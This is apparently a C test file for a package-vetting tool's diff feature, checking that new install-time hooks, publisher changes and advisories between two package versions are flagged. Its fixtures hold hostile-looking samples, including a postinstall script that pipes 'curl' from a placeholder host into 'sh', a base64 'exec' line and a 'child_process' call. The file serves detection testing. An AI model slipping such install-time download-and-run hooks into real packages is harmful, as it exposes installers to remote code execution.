/* pkgdiff on two local archives: both are scanned, and the hits new in the
 * later one carry the diff's paths (no "package/" or "pkg-1.1/" folder),
 * so an sdist's unchanged hit is not new because its folder names the
 * version. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "depvet/core/fileio.h"
#include "depvet/engine/osvdb.h"
#include "depvet/engine/pkgdiff.h"
#include "depvet/store/pkgstore.h"
#include "helpers.h"
#include "pkg_build.h"

#define HOOK "from setuptools import setup\nfrom setuptools.command.install import install\n" \
             "class I(install):\n    pass\nsetup(name='pkg', cmdclass={'install': I})\n"

static const struct ab_item sdist_old[] = {
    {"pkg-1.0/setup.py", 0, HOOK, NULL, NULL},
    {"pkg-1.0/pkg/__init__.py", 0, "x = 1\n", NULL, NULL},
};
static const struct ab_item sdist_new[] = {
    {"pkg-1.1/setup.py", 0, HOOK, NULL, NULL},
    {"pkg-1.1/pkg/__init__.py", 0, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", NULL,
     NULL},
};

static char dir[64];

static const char *put(const char *name, struct pkg_buf b)
{
    static char paths[2][128];
    static int k;
    char *p = paths[k++ % 2];
    snprintf(p, sizeof(paths[0]), "%s/%s", dir, name);
    struct diag d;
    diag_clear(&d);
    cr_assert(file_write_atomic(p, b.buf, b.len, &d), "%s", d.msg);
    free(b.buf);
    return p;
}

static void setup_dir(void)
{
    test_tmpdir_make(dir, sizeof(dir), "pkgdiff");
}

static void drop_dir(void)
{
    test_tmpdir_drop(dir);
}

TestSuite(pkgdiff, .init = setup_dir, .fini = drop_dir);

Test(pkgdiff, local_archives_are_scanned_with_the_diffs_paths)
{
    const char *a = put("pkg-1.0.tar.gz", PKG_PLAIN(AB_TGZ, sdist_old));
    const char *b = put("pkg-1.1.tar.gz", PKG_PLAIN(AB_TGZ, sdist_new));
    char cache[96];
    snprintf(cache, sizeof(cache), "%s/no-cache", dir);
    struct pkgdiff_request q = {.eco = ECO_UNKNOWN, .cache_dir = cache};
    struct arena *ar = arena_new();
    struct pkgdiff_result res;
    struct diag d;
    diag_clear(&d);
    cr_assert(pkgdiff_files(&q, a, b, ar, &res, &d), "%s", d.msg);
    cr_assert(res.scanned, "scan: %s", res.scan_error);
    cr_expect_str_eq(res.diff->old_top, "pkg-1.0/");
    cr_expect_str_eq(res.diff->new_top, "pkg-1.1/");
    bool decoded = false;
    for (size_t i = 0; i < res.n_new_hits; i++) {
        const struct scan_hit *h = &res.new_hits[i];
        cr_expect_neq(strcmp(h->rule, "py-setup-cmdclass"), 0,
                      "the hook both versions have is not new");
        cr_expect_null(strstr(h->file, "pkg-1.1/"), "%s: the diff's path", h->file);
        decoded |= strcmp(h->file, "pkg/__init__.py") == 0;
    }
    cr_expect(decoded, "the new hit is on pkg/__init__.py");
    srcdiff_free(res.diff);
    arena_free(ar);
}

Test(pkgdiff, a_missing_file_is_an_error)
{
    struct pkgdiff_request q = {.eco = ECO_UNKNOWN};
    struct arena *ar = arena_new();
    struct pkgdiff_result res;
    struct diag d;
    diag_clear(&d);
    cr_expect_not(pkgdiff_files(&q, "/nonexistent/a.tgz", "/nonexistent/b.tgz", ar, &res, &d));
    cr_expect(diag_failed(&d));
    cr_expect_null(res.diff);
    arena_free(ar);
}

/* The registry side of a diff, worked out by hand: 1.0.0 -> 2.0.0 adds b,
 * drops c, moves a's range and gains a postinstall by another publisher;
 * GHSA-one affects 1.x (fixed), GHSA-two 2.0.0 (introduced); 2.0.0 is
 * three days old under a seven-day cooldown. */
Test(pkgdiff, registry_side_by_hand)
{
    struct diag d;
    diag_clear(&d);
    struct store *st = store_open(":memory:", &d);
    cr_assert_not_null(st, "%s", d.msg);
    struct arena *a = arena_new();
    const int64_t now = 1750000000, day = 86400;
    struct reg_package *p = reg_package_new(a, ECO_NPM, "foo");
    p->n_releases = 2;
    p->releases = arena_alloc(a, 2 * sizeof(*p->releases));
    static struct reg_dep d1[] = {{.name = "a", .requirement = "^1.0.0"}, {.name = "c", .requirement = "^3.0.0"}};
    static struct reg_dep d2[] = {{.name = "a", .requirement = "^2.0.0"},
                                  {.name = "b", .requirement = "^1.0.0", .optional = true}};
    static struct reg_script s2[] = {{"postinstall", "node x.js"}};
    for (int i = 0; i < 2; i++) {
        struct reg_release *r = &p->releases[i];
        memset(r, 0, sizeof(*r));
        reg_release_init(r);
        r->version = i ? "2.0.0" : "1.0.0";
        r->published = now - (i ? 3 : 300) * day;
        r->publisher.name = i ? "mallory" : "alice";
        r->deps = i ? d2 : d1;
        r->n_deps = 2;
        r->scripts = i ? s2 : NULL;
        r->n_scripts = i;
    }
    cr_assert(pkgstore_put(st, p, "package", now, &d), "%s", d.msg);
    static const char *const osv[] = {
        "{\"id\":\"GHSA-one\",\"modified\":\"2024-01-01T00:00:00Z\",\"summary\":\"old bug\","
        "\"affected\":[{\"package\":{\"ecosystem\":\"npm\",\"name\":\"foo\"},\"ranges\":[{\"type\":"
        "\"SEMVER\",\"events\":[{\"introduced\":\"0\"},{\"fixed\":\"2.0.0\"}]}]}]}",
        "{\"id\":\"GHSA-two\",\"modified\":\"2024-01-01T00:00:00Z\",\"summary\":\"new bug\","
        "\"affected\":[{\"package\":{\"ecosystem\":\"npm\",\"name\":\"foo\"},\"versions\":[\"2.0.0\"]}]}",
    };
    struct osvdb_import_summary sum = {0};
    cr_assert(store_begin(st, &d));
    for (int i = 0; i < 2; i++)
        cr_assert(osvdb_import_buffer(st, "t", osv[i], strlen(osv[i]), NULL, NULL, &sum, &d), "%s", d.msg);
    cr_assert(store_commit(st, &d));
    struct engine_config cfg;
    engine_config_init(&cfg);
    cfg.policy.min_release_age = 7 * day;
    struct pkgdiff_meta m;
    cr_assert(pkgdiff_meta_build(st, &cfg, ECO_NPM, "foo", "1.0.0", "2.0.0", true, now, a, &m, &d),
              "%s", d.msg);
    cr_assert(m.have_deps);
    cr_assert_eq(m.n_deps, 3);
    cr_expect(m.deps[0].op == '~' && strcmp(m.deps[0].old_req, "^1.0.0") == 0 &&
              strcmp(m.deps[0].new_req, "^2.0.0") == 0);
    cr_expect(m.deps[1].op == '+' && strcmp(m.deps[1].name, "b") == 0 && m.deps[1].optional);
    cr_expect(m.deps[2].op == '-' && strcmp(m.deps[2].name, "c") == 0);
    cr_expect(m.publisher_changed);
    cr_expect_str_eq(m.new_publisher, "mallory");
    cr_assert_eq(m.n_scripts, 1);
    cr_expect_str_eq(m.scripts[0].what, "postinstall");
    cr_expect_null(m.scripts[0].old_value);
    cr_assert(m.have_advisories);
    cr_assert_eq(m.n_fixed, 1);
    cr_expect_str_eq(m.fixed[0].id, "GHSA-one");
    cr_assert_eq(m.n_introduced, 1);
    cr_expect_str_eq(m.introduced[0].id, "GHSA-two");
    cr_expect(m.to_cooling);
    arena_free(a);
    store_close(st);
}

static const struct ab_item npm_plain[] = {
    {"package/package.json", 0, "{\"name\":\"x\",\"version\":\"1.0.0\"}", NULL, NULL},
    {"package/index.js", 0, "module.exports = 1;\n", NULL, NULL},
};
static const struct ab_item npm_hooked[] = {
    {"package/package.json", 0,
     "{\"name\":\"x\",\"version\":\"1.1.0\","
     "\"scripts\":{\"postinstall\":\"sh ./scripts/setup.sh && node lib/hook\"}}",
     NULL, NULL},
    {"package/index.js", 0, "module.exports = 2;\n", NULL, NULL},
    {"package/scripts/setup.sh", 0, "#!/bin/sh\ncurl -s https://get.example/i | sh\n", NULL,
     NULL},
    {"package/lib/hook.js", 0,
     "const cp = require('child_process');\ncp.exec('id');\n", NULL, NULL},
};

Test(pkgdiff, files_that_run_at_install_are_marked_with_their_new_hits)
{
    const char *a = put("x-1.0.0.tgz", PKG_PLAIN(AB_TGZ, npm_plain));
    const char *b = put("x-1.1.0.tgz", PKG_PLAIN(AB_TGZ, npm_hooked));
    char cache[96];
    snprintf(cache, sizeof(cache), "%s/no-cache", dir);
    struct pkgdiff_request q = {.eco = ECO_NPM, .cache_dir = cache};
    struct arena *ar = arena_new();
    struct pkgdiff_result res;
    struct diag d;
    diag_clear(&d);
    cr_assert(pkgdiff_files(&q, a, b, ar, &res, &d), "%s", d.msg);
    cr_assert(res.scanned, "scan: %s", res.scan_error);
    static const struct {
        const char *path;
        bool install;
    } want[] = {{"scripts/setup.sh", true}, {"lib/hook.js", true}, {"package.json", true},
                {"index.js", false}};
    for (size_t k = 0; k < 4; k++)
        for (size_t i = 0; i < res.diff->n_files; i++)
            if (strcmp(res.diff->files[i].path, want[k].path) == 0)
                cr_expect_eq(res.diff->files[i].install_time, want[k].install, "%s",
                             want[k].path);
    bool shell = false;
    for (size_t i = 0; i < res.n_new_hits; i++) {
        const struct scan_hit *h = &res.new_hits[i];
        bool at_install = strcmp(h->file, "index.js") != 0;
        cr_expect_eq(strncmp(h->message, "runs at install: ", 17) == 0, at_install, "%s: %s",
                     h->file, h->message);
        if (strcmp(h->rule, "shell-download-exec") == 0) {
            shell = true;
            cr_expect_eq(h->severity, SCAN_SEV_CRITICAL, "install-time severity");
        }
    }
    cr_expect(shell, "the install script's download-and-run is new");
    srcdiff_free(res.diff);
    arena_free(ar);
}
